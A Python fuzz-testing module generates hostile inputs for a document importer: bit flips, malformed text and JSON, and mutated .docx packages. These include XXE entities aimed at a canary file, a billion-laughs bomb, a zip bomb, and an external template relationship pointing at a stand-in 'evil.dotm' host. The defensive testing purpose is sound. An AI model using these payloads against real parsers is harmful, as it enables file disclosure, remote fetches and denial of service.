"""Mutations of real documents for the importer fuzz run: bytes, text, XML, zip and JSON.

Every generator takes a ``random.Random`` and returns the bytes of one hostile file. The
hostile classics are included on purpose: XML external entities pointing at a canary file,
entity expansion bombs, external relationships, zip bombs, renamed archives, 0-byte files.
"""

from __future__ import annotations

import hashlib
import io
import json
import random
import zipfile
from collections.abc import Callable
from typing import Any

Mutator = Callable[[random.Random, bytes], bytes]
CANARY_TEXT = "FUZZ-CANARY-7f3a9c"


# -- bytes -----------------------------------------------------------------------------


def flip_bits(rng: random.Random, data: bytes) -> bytes:
    buf = bytearray(data or b"\0")
    for _ in range(rng.randint(1, 24)):
        buf[rng.randrange(len(buf))] ^= 1 << rng.randrange(8)
    return bytes(buf)


def delete_slice(rng: random.Random, data: bytes) -> bytes:
    if len(data) < 2:
        return data
    start = rng.randrange(len(data))
    return data[:start] + data[start + rng.randint(1, max(1, len(data) // 8)):]


def insert_garbage(rng: random.Random, data: bytes) -> bytes:
    at = rng.randint(0, len(data))
    junk = rng.choice([
        bytes(rng.randrange(256) for _ in range(rng.randint(1, 64))),
        b"\x00" * rng.randint(1, 16), b"\xff\xfe", b"\xef\xbb\xbf", b"\xc3\x28", b"\xed\xa0\x80",
    ])
    return data[:at] + junk + data[at:]


def duplicate_slice(rng: random.Random, data: bytes) -> bytes:
    if not data:
        return data
    start = rng.randrange(len(data))
    chunk = data[start: start + rng.randint(1, 4096)]
    return data[:start] + chunk * rng.randint(2, 50) + data[start:]


def truncate(rng: random.Random, data: bytes) -> bytes:
    return data[: rng.randint(0, len(data))]


def empty(_rng: random.Random, _data: bytes) -> bytes:
    return b""


BYTE_MUTATORS: list[Mutator] = [flip_bits, delete_slice, insert_garbage, duplicate_slice,
                                truncate, empty]


# -- text ------------------------------------------------------------------------------


def _text_edit(rng: random.Random, text: str) -> str:
    lines = text.splitlines() or [""]
    choice = rng.randrange(9)
    at = rng.randrange(len(lines))
    if choice == 0:
        lines.insert(at, "x" * rng.randint(10_000, 300_000))  # one enormous line
    elif choice == 1:
        lines.insert(at, ".".join(["1"] * rng.randint(20, 400)) + " Deep numbering")
    elif choice == 2:
        lines.insert(at, "\u202e\u200f\u0301\ufeff\ud7ff\U0001f600 Article ١٢")
    elif choice == 3:
        rng.shuffle(lines)
    elif choice == 4:
        lines = [f"Article {rng.choice(['premier', '0', '-1', '99999999999', '4 bis', ''])}"
                 for _ in range(rng.randint(1, 3000))]
    elif choice == 5:
        lines[at] = lines[at].replace(" ", "\u00a0\t\v\f")
    elif choice == 6:
        lines.insert(at, "\x00\x01\x1b[31m\x7f")
    elif choice == 7:
        del lines[at: at + rng.randint(1, 40)]
    else:
        lines.insert(at, "a)" * rng.randint(100, 5000))
    return rng.choice(["\n", "\r\n", "\r"]).join(lines)


def mutate_text(rng: random.Random, data: bytes) -> bytes:
    """A hostile plain-text document (seed .txt)."""
    if rng.random() < 0.35:
        return rng.choice(BYTE_MUTATORS)(rng, data)
    text = data.decode("utf-8", errors="replace")
    for _ in range(rng.randint(1, 3)):
        text = _text_edit(rng, text)
    encoding = rng.choice(["utf-8", "utf-8", "utf-8-sig", "utf-16", "cp1251", "latin-1"])
    return text.encode(encoding, errors="replace")


# -- OOXML packages ----------------------------------------------------------------------


def _xxe(canary_uri: str) -> Callable[[str], str]:
    def inject(xml: str) -> str:
        doctype = (f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{canary_uri}">]>')
        xml = _after_declaration(xml, doctype)
        return xml.replace("<w:t>", "<w:t>&xxe;", 1)
    return inject


def _billion_laughs(xml: str) -> str:
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    xml = _after_declaration(xml, f"<!DOCTYPE w:document [{entities}]>")
    return xml.replace("<w:t>", "<w:t>&l9;", 1)


def _after_declaration(xml: str, insert: str) -> str:
    end = xml.find("?>") + 2 if xml.startswith("<?xml") else 0
    return xml[:end] + insert + xml[end:]


def _external_relationship(rels: str) -> str:
    link = ('<Relationship Id="rIdFuzz" TargetMode="External" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://192.0.2.1/evil.dotm"/>')
    return rels.replace("</Relationships>", link + "</Relationships>")


def _rewrite(parts: dict[str, bytes], name: str, edit: Callable[[str], str]) -> None:
    if name in parts:
        parts[name] = edit(parts[name].decode("utf-8", errors="replace")).encode("utf-8")


def _zip(parts: dict[str, bytes], rng: random.Random) -> bytes:
    buffer = io.BytesIO()
    method = rng.choice([zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED])
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _bomb(data_size: int) -> bytes:
    """A .docx whose document.xml inflates to ``data_size`` bytes (about 1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            chunk = b"<w:t>" + b"\0" * (1024 * 1024)
            for _ in range(data_size // len(chunk)):
                part.write(chunk)
    return buffer.getvalue()


def make_docx_mutator(canary_uri: str) -> Mutator:
    """Mutations of a .docx package, with the XML attacks aimed at ``canary_uri``."""
    bombs: list[bytes] = []

    def mutate(rng: random.Random, data: bytes) -> bytes:
        roll = rng.random()
        if roll < 0.2:
            return rng.choice(BYTE_MUTATORS)(rng, data)
        if roll < 0.23:
            if not bombs:
                bombs.append(_bomb(256 * 1024 * 1024))
            return bombs[0]
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            parts = {info.filename: archive.read(info) for info in archive.infolist()}
        attack = rng.randrange(8)
        if attack == 0:
            _rewrite(parts, "word/document.xml", _xxe(canary_uri))
        elif attack == 1:
            _rewrite(parts, "word/document.xml", _billion_laughs)
        elif attack == 2:
            _rewrite(parts, "word/_rels/document.xml.rels", _external_relationship)
        elif attack == 3:
            parts.pop(rng.choice(sorted(parts)))
        elif attack == 4:
            name = rng.choice(sorted(parts))
            parts[name] = rng.choice(BYTE_MUTATORS)(rng, parts[name])
        elif attack == 5:
            parts["word/document.xml"] = mutate_text(rng, parts.get("word/document.xml", b""))
        elif attack == 6:
            parts["word/embeddings/nested.docx"] = data
        else:
            _rewrite(parts, "word/document.xml",
                     lambda x: x.replace("<w:body>", "<w:body>" + "<w:tbl><w:tr><w:tc>" * 400))
        return _zip(parts, rng)

    return mutate


# -- JSON (agreement files, library packs) -----------------------------------------------


def _mutate_value(rng: random.Random, value: Any, depth: int = 0) -> Any:
    if isinstance(value, dict) and value and depth < 6:
        key = rng.choice(sorted(value))
        if rng.random() < 0.2:
            value.pop(key)
        else:
            value[key] = _mutate_value(rng, value[key], depth + 1)
        return value
    if isinstance(value, list) and value and depth < 6:
        index = rng.randrange(len(value))
        value[index] = _mutate_value(rng, value[index], depth + 1)
        return value
    return rng.choice([None, 0, -1, 2**70, 1e308, "", "x" * 100_000, [], {}, True,
                       "{{ref:nowhere}}", "{{fn:", {"kind": "article"}, [[[[[[[]]]]]]]])


def mutate_json(rng: random.Random, data: bytes) -> bytes:
    """A hostile JSON document: broken syntax, wrong types, deep nesting, missing keys."""
    if rng.random() < 0.3:
        return rng.choice(BYTE_MUTATORS)(rng, data)
    if rng.random() < 0.05:
        return b"[" * 100_000 + b"]" * 100_000
    document = json.loads(data)
    for _ in range(rng.randint(1, 4)):
        document = _mutate_value(rng, document)
    return json.dumps(document, ensure_ascii=rng.random() < 0.5).encode("utf-8")


def _pack_checksum(clauses: Any) -> str:
    """The checksum a clause pack declares (the pack format's definition)."""
    canonical = json.dumps(clauses, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
    return "sha256:" + hashlib.sha256(canonical.encode("utf-8")).hexdigest()


def mutate_pack(rng: random.Random, data: bytes) -> bytes:
    """A hostile clause pack; most are re-signed so they get past the checksum."""
    if rng.random() < 0.2:
        return rng.choice(BYTE_MUTATORS)(rng, data)
    document = json.loads(data)
    clauses = document.get("clauses", [])
    for _ in range(rng.randint(1, 4)):
        if clauses and rng.random() < 0.2:
            clauses.append(json.loads(json.dumps(rng.choice(clauses))))  # a duplicate id
        else:
            clauses = _mutate_value(rng, clauses)
    document["clauses"] = clauses
    if rng.random() < 0.8:
        document["clause_count"] = len(clauses) if isinstance(clauses, list) else 0
        document["checksum"] = _pack_checksum(clauses)
    elif rng.random() < 0.5:
        document = _mutate_value(rng, document)
    return json.dumps(document, ensure_ascii=False).encode("utf-8")
